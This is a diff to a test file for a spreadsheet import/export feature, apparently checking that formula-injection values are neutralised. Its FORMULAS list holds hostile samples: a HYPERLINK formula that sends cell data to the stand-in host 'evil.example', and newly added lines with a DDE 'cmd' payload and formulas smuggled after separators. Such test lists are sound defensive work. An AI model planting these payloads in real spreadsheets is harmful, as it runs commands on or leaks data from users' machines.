@@ -13,7 +13,7 @@ import { exportFile, importFile, toldBy } from './spreadsheets.ts';
 const world = await startWorkforce({ after });
 const admin = await world.superUser();
 
-/** Each begins as a formula does, or looks as if it had been disarmed. */
+/** Each begins as a formula does, or a part of it where a program splits it, or looks as if it had been disarmed. */
 const FORMULAS = [
   '=1+1',
   '=HYPERLINK("http://evil.example?"&A1,"x")',
@@ -29,6 +29,9 @@ const FORMULAS = [
   "'quoted'",
   '"=1"',
   ' =1',
+  "x;=cmd|' /C calc'!A0;y",
+  "x;'=1\t''-2\n+3",
+  'x;""@1"',
 ];
 /** What is blank to the eye is no name. */
 const TEXTS = [
